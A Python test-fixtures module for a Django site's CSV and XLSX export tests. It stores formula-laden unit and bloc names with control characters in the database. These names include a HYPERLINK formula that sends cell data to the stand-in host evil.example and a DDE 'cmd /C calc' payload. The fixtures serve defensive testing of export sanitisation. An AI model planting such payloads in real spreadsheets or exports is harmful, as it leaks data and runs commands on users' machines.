"""Names stored as formulas, with control characters inside, and how to read an export back: shared by
the export tests of the units' admin (tests/units/test_exports.py) and of the reports
(tests/reports/test_exports.py). The fixtures reach the tests through each folder's conftest.py."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from exemplars.models import UnitSectionPage
from tests.factories import ExemplarPageFactory
from units.models import EmulationBloc, Unit

YEAR = 2020
# Names as they might have been stored: a formula, a control character inside.
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Huyện Kế Sách")'
STORED_NAME = FORMULA_NAME[:10] + "\x01\x02" + FORMULA_NAME[10:]
BLOC_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def content_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(content_of(response).decode("utf-8-sig"))))


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(content_of(response))).active


def row_starting_with(rows, text):
    return next(row for row in rows if row[0] == text)


@pytest.fixture
def board(client, staff):
    client.force_login(staff["board"])
    return client


@pytest.fixture
def formula_names(newsroom):
    """Kế Sách renamed, and its bloc, straight in the database (as no form would let through today)."""
    Unit.objects.filter(slug="huyen-ke-sach").update(name=STORED_NAME)
    EmulationBloc.objects.filter(units__slug="huyen-ke-sach").update(name=BLOC_FORMULA + "\x1f")
    # Two stories in January 2020, so the report has numbers next to the name.
    section = UnitSectionPage.objects.filter(locale__language_code="vi").get(unit__slug="huyen-ke-sach")
    for day in (5, 20):
        ExemplarPageFactory(parent=section, first_published_at=timezone.make_aware(datetime.datetime(YEAR, 1, day, 9)))
